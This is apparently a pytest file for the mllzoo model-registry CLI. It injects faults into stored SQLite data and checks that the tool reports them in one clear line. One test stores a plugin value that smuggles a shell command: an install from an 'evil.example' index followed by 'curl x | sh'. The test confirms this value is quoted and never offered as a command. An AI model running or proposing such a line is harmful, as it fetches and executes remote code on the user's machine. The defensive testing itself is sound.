"""Fault injection on what a registry already holds (issue 27): label blocks mixed up between nodes,
models and runs, model rows stored before today's checks (string or negative costs, a ``plugin`` that
is a shell line). Real ``mllzoo`` subprocesses on real SQLite files; each case is one clear line or a
correct answer, never a traceback, a silently different recommendation or a command to paste."""

from __future__ import annotations

import json
import sqlite3
from pathlib import Path

import pytest

from conftest import run_cli
from helpers import (
    MODEL,
    copy_registry,
    execute,
    make_pre_checksum,
    one_line_error,
    recommend,
    unbind,
)

pytestmark = pytest.mark.slow  # mllzoo CLI subprocesses

OTHER = "tinyclip/tiny-b.seed0"
EVIL = "mllzoo-plugin-openclip --index-url https://evil.example/simple/ ; curl x | sh"


def blocks(path: Path, model_id: str) -> dict[int, tuple]:
    with sqlite3.connect(path) as conn:
        rows = conn.execute(
            "select node, dtype, ranks, lengths, entries, checksum from label_blocks "
            "where model_id = ? order by node",
            [model_id],
        ).fetchall()
    conn.close()
    return {row[0]: row[1:] for row in rows}


def put_blocks(path: Path, model_id: str, by_node: dict[int, tuple]) -> None:
    """Overwrite ``model_id``'s blocks, node by node, with these whole rows (valid checksums and all)."""
    conn = sqlite3.connect(path)
    for node, row in by_node.items():
        conn.execute(
            "update label_blocks set dtype = ?, ranks = ?, lengths = ?, entries = ?, checksum = ? "
            "where model_id = ? and node = ?",
            [*row, model_id, node],
        )
    conn.commit()
    conn.close()


# 4. label blocks are tied to their label ------------------------------------------------------------


def test_two_nodes_blocks_swapped_are_damage_not_another_answer(world, tmp_path):
    path, env = copy_registry(world, tmp_path)
    mine = blocks(path, MODEL)
    nodes = sorted(mine)
    put_blocks(path, MODEL, {n: mine[nodes[(i + 1) % len(nodes)]] for i, n in enumerate(nodes)})
    one_line_error(recommend(world, env), MODEL, "not this label's block", "mllzoo register")
    one_line_error(run_cli("labels", "export", MODEL, "-o", str(tmp_path / "x"), env=env), MODEL)


def test_blocks_from_another_models_label_are_damage(world, tmp_path):
    path, env = copy_registry(world, tmp_path)
    put_blocks(path, MODEL, blocks(path, OTHER))
    one_line_error(recommend(world, env), MODEL, "not this label's block")


def test_blocks_left_from_another_run_of_the_same_model_are_damage(world, tmp_path):
    from mllzoo.store.registry import Registry

    path, env = copy_registry(world, tmp_path)
    earlier = blocks(path, MODEL)
    registry = Registry(path)
    graph_id = registry.require_graph_id()
    fmt, arrays, meta = registry.load_label(MODEL, graph_id)
    registry.save_label(MODEL, graph_id, fmt, arrays, meta)  # a new run: same bytes, a new token
    registry.close()
    assert recommend(world, env).returncode == 0
    put_blocks(path, MODEL, earlier)  # the earlier run's blocks, each with its own valid checksum
    one_line_error(recommend(world, env), MODEL, "not this label's block")


def test_an_m004_registry_is_bound_on_upgrade_with_identical_answers(world, tmp_path):
    path, env = copy_registry(world, tmp_path)
    want = recommend(world, env)
    unbind(path)
    assert all(row[-1].startswith("crc32:") for row in blocks(path, MODEL).values())
    got = recommend(world, env)
    assert got.returncode == 0, got.stderr
    assert got.stdout == want.stdout
    assert all(row[-1].startswith("crc32b:") for row in blocks(path, MODEL).values())
    put_blocks(path, MODEL, blocks(path, OTHER))  # and the upgraded blocks are bound
    one_line_error(recommend(world, env), MODEL, "not this label's block")


def test_a_block_damaged_before_the_upgrade_stays_damaged(world, tmp_path):
    path, env = copy_registry(world, tmp_path)
    unbind(path)
    execute(
        path,
        "update label_blocks set entries = entries || x'0000' where model_id = ? and node = "
        "(select max(node) from label_blocks where model_id = ? and length(entries) > 0)",
        (MODEL, MODEL),
    )
    assert "Note: upgrading registry" in run_cli("models", env=env).stderr
    one_line_error(recommend(world, env), MODEL)
    assert recommend(world, env, "--models", OTHER).returncode == 0


def test_an_m002_registry_still_upgrades_through_every_migration(world, tmp_path):
    path, env = copy_registry(world, tmp_path)
    want = recommend(world, env)
    make_pre_checksum(path)
    got = recommend(world, env)
    assert got.returncode == 0 and got.stdout == want.stdout, got.stderr


# 5. metadata stored before the metadata checks ------------------------------------------------------


def set_stored(path: Path, model_id: str, **changes) -> None:
    """Change a model's stored metadata as an older mllzoo's import left it (no checks)."""
    with sqlite3.connect(path) as conn:
        (raw,) = conn.execute("select metadata from models where id = ?", [model_id]).fetchone()
        conn.execute(
            "update models set metadata = ? where id = ?",
            [json.dumps({**json.loads(raw), **changes}), model_id],
        )
    conn.close()


def test_a_string_cost_stored_earlier_is_one_warning_not_a_traceback(world, tmp_path):
    path, env = copy_registry(world, tmp_path)
    set_stored(path, MODEL, gflops="4.6")
    for args in (["models"], ["models", "show", MODEL], ["models", "--json"]):
        result = run_cli(*args, env=env)
        assert result.returncode == 0 and "Traceback" not in result.stderr, result.stderr
        assert "gflops must be a non-negative finite number, not '4.6'" in result.stderr
        assert "4.6" not in result.stdout
    budget = recommend(world, env, "--max-gflops", "1")
    assert budget.returncode == 0 and "Traceback" not in budget.stderr, budget.stderr
    assert MODEL not in json.loads(budget.stdout)["models"]


def test_a_negative_cost_stored_earlier_does_not_fit_a_budget(world, tmp_path):
    path, env = copy_registry(world, tmp_path)
    set_stored(path, MODEL, gflops=-1000)
    set_stored(path, OTHER, gflops=0.0005)
    result = recommend(world, env, "--max-gflops", "0.001", "-k", "2")
    assert result.returncode == 0, result.stderr
    assert json.loads(result.stdout)["models"] == [OTHER]
    assert result.stderr.count("not -1000") == 1


# 6. a label's plugin is a distribution name, or shown quoted ----------------------------------------


def test_a_plugin_that_is_a_shell_line_is_quoted_never_offered_as_a_command(world, tmp_path):
    path, env = copy_registry(world, tmp_path)
    with sqlite3.connect(path) as conn:
        conn.execute("update models set plugin = ? where id = ?", [EVIL, MODEL])
    conn.close()
    bare = {
        **env,
        "MLLZOO_LOAD_PLUGINS": "",
    }  # no model plugin: the label's plugin is not installed
    listed = run_cli("labels", "list", env=bare)
    assert listed.returncode == 0, listed.stderr
    assert f"mllzoo install {EVIL}" not in listed.stdout and repr(EVIL) in listed.stdout
    assert "not a distribution name" in listed.stdout
    chosen = recommend(world, bare, "--include-uninstalled")
    assert chosen.returncode == 0, chosen.stderr
    text = run_cli(
        "recommend", str(world[0] / "classes.txt"), "--include-uninstalled", "-k", "2", env=bare
    )
    assert text.returncode == 0 and "mllzoo install" not in text.stdout
    assert f"{EVIL} runs" not in text.stdout
    from mllzoo.plugin_source import install_command

    hint = install_command([EVIL])
    assert hint.startswith("a plugin recorded as ") and "mllzoo install" not in hint
    assert install_command(["mllzoo-plugin-tinyclip", EVIL, None]).startswith(
        "mllzoo install mllzoo-plugin-tinyclip; a plugin recorded as "
    )


@pytest.mark.parametrize(
    "name, valid",
    [
        ("mllzoo-plugin-openclip", True),
        ("mllzoo_plugin_openclip", True),
        ("a", True),
        ("zope.interface", True),
        (EVIL, False),
        ("-e", False),
        ("x ; sh", False),
        ("plugin-", False),
        ("", False),
        ("naïve", False),
        (None, False),
    ],
)
def test_distribution_names_are_pep_508(name, valid):
    from mllzoo.plugins import is_distribution_name

    assert is_distribution_name(name) is valid
